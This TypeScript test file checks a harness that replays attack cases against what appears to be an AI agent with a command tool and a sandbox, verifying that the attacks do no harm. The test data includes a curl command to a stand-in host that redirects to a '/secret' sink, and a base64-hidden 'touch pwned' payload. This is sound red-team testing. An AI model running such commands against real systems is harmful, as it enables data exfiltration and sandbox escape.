/** A few attacks of each kind against the real program, and that the runner tells right from wrong. `deno task attacks` plays all. */
import { deepStrictEqual as equal, match, ok, rejects } from "node:assert/strict";
import { join } from "node:path";
import { type Attack, readAttacks, stepsOf } from "./attacks/case_file.ts";
import { judgeInNetwork } from "./attacks/in_network.ts";
import { judge } from "./attacks/judge.ts";
import { readProgramParts } from "./attacks/program_parts.ts";
import { OWN_FILE, playAll } from "./attacks/run.ts";
import { makeWorld } from "./attacks/world.ts";
import { mayMakeWorld } from "./support/network_world.ts";
import { needing } from "./support/sandbox.ts";
import { withWorkspace } from "./support/workspace.ts";

const attacks = await readAttacks(OWN_FILE);
const byId = (id: string): Attack => {
  const found = attacks.find((attack) => attack.id === id);
  ok(found !== undefined, id);
  return found;
};

/** The newline, the rules of a repository, a link, the state directory, a secret nobody listed, no sandbox, keys, a session, the web. */
const FEW = [
  "PR-002",
  "PR-046",
  "PC-009",
  "SB-003",
  "SB-006",
  "SB-024",
  "EL-001",
  "ST-004",
  "WF-003",
];

Deno.test({
  name: "a few attacks of each kind do no harm",
  ignore: Deno.build.os === "windows",
  fn: async () => {
    const failed: string[] = [];
    await playAll(FEW.map(byId), ({ id }, verdict) => {
      if (verdict.status === "failed") failed.push(`${id}: ${verdict.why}`);
    });
    equal(failed, []);
  },
});

Deno.test({
  name: "an attack whose conditions are the other way round fails",
  ignore: Deno.build.os === "windows",
  fn: async () => {
    const parts = await readProgramParts();
    const attack = byId("PR-001");
    const turned = await judge({ ...attack, must: attack.must_not, must_not: attack.must }, parts);
    equal(turned.status, "failed");
    match(turned.status === "failed" ? turned.why : "", /happened: .*decision.*is not so: /);
    const odd = await judge({ ...attack, must: [{ check: "no_such_thing" }] }, parts);
    match(odd.status === "failed" ? odd.why : "", /the check "no_such_thing" is not known/);
  },
});

const network = await needing("nsenter", "curl");

Deno.test({
  name: "an attack with names and a public address is played in a network of its own",
  ignore: network.ignore || !await mayMakeWorld(),
  fn: async () => {
    const get = "curl -s -m 20 http://public.test/x; curl -sL -m 20 http://public.test/r";
    const attack: Attack = {
      ...byId("SB-015"),
      setup: {
        network_allow: ["public.test"],
        dns: { "public.test": ["{PUBLIC}"] },
        routes: {
          "/x": { status: 200, body: "{CANARY} is public" },
          "/r": { status: 302, location: "http://127.0.0.1:{SINKPORT}/secret" },
        },
      },
      input: { tool: "run_cmd", arguments: { command: `${get} -H "x: sent" ` } },
      must: [{ check: "text_seen", where: ["model"], text: "{CANARY} is public" }, {
        check: "text_seen",
        where: ["sink"],
        text: "x: sent",
      }],
    };
    const parts = await readProgramParts();
    equal(await judgeInNetwork(attack, parts), { status: "passed" });
    const turned = { ...attack, must: [{ check: "sink_contacted" }], must_not: [] };
    equal((await judgeInNetwork(turned, parts)).status, "failed");
  },
});

Deno.test("stepsOf() says what it does not understand, so that the case is skipped and not passed", () => {
  const attack = { ...byId("PR-001"), input: { sequence: [{ dance: true }] } };
  equal(stepsOf(attack), [{ kind: "cannot", why: 'the step "dance" is not known here' }]);
});

Deno.test("readAttacks() names the file and what is wrong with it", async () => {
  await withWorkspace(async (dir) => {
    const file = join(dir, "a.json");
    await rejects(readAttacks(file), /a\.json/);
    await Deno.writeTextFile(file, '{"cases":[{"id":"X-1"}]}');
    await rejects(readAttacks(file), /a\.json" is not a file of attacks:[^]*component/);
  });
});

Deno.test("placeholders inside base64 are replaced there", async () => {
  const hidden = btoa("touch {OUT}/pwned; echo {CANARY} for ever");
  await using world = await makeWorld({
    ...byId("PR-001"),
    setup: {},
    mode: { sandbox: "on", automode: false, tty: true, trusted: false },
  });
  const [word = ""] = world.fill([`${hidden}`]);
  equal(atob(word), `touch ${world.outside}/pwned; echo ${world.canary} for ever`);
});
